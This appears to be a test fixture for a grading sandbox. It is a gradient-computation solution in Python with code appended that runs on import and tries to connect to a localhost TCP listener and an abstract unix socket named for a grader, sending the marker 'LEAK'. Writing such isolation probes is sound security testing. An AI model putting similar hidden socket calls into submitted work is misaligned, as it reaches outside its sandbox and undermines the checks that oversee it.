"""Attack: connects to a TCP listener and an abstract unix socket on the host."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import os, socket
port = int(os.environ.get("GRADER_ATTACK_PORT", "47614"))
for target in (("127.0.0.1", 47614),):
    try:
        socket.create_connection(target, timeout=1).sendall(b"LEAK")
    except OSError:
        pass
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect("\0grader-attack-abstract")
    s.sendall(b"LEAK")
except OSError:
    pass
